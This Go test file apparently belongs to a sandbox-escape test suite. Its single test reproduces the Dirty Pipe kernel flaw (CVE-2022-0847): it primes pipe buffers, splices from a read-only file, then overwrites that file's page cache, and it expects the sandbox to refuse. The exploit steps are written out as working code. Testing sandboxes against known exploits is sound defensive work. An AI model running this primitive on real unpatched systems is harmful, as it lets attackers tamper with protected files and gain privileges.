package escape_test

import (
	"testing"

	"golang.org/x/sys/unix"
)

func TestF20PageCache(t *testing.T) {
	attack{
		ID: "F20", Title: "write to the page cache of a read-only file through a pipe",
		Reference: "CVE-2022-0847 (Dirty Pipe)",
		Tiers:     process,
		Tries: []try{{Name: "splice", NoControl: "needs Linux 5.8 to 5.16.10", Want: refused(), Do: func(f *field) error {
			p := make([]int, 2)
			if err := unix.Pipe(p); err != nil {
				return err
			}
			buf := make([]byte, 4096)
			for range 16 { // every buffer of the pipe gets PIPE_BUF_FLAG_CAN_MERGE
				if _, err := unix.Write(p[1], buf); err != nil {
					return err
				}
			}
			for range 16 {
				if _, err := unix.Read(p[0], buf); err != nil {
					return err
				}
			}
			fd, err := unix.Open(f.read("file"), unix.O_RDONLY, 0)
			if err != nil {
				return err
			}
			off := int64(0)
			if _, err := unix.Splice(fd, &off, p[1], nil, 1, 0); err != nil {
				return err
			}
			if _, err := unix.Write(p[1], []byte("changed")); err != nil {
				return err
			}
			if n, err := unix.Pread(fd, buf, 0); err != nil || string(buf[:n]) == "read\n" {
				return unix.EROFS
			}
			return nil
		}}},
	}.run(t)
}
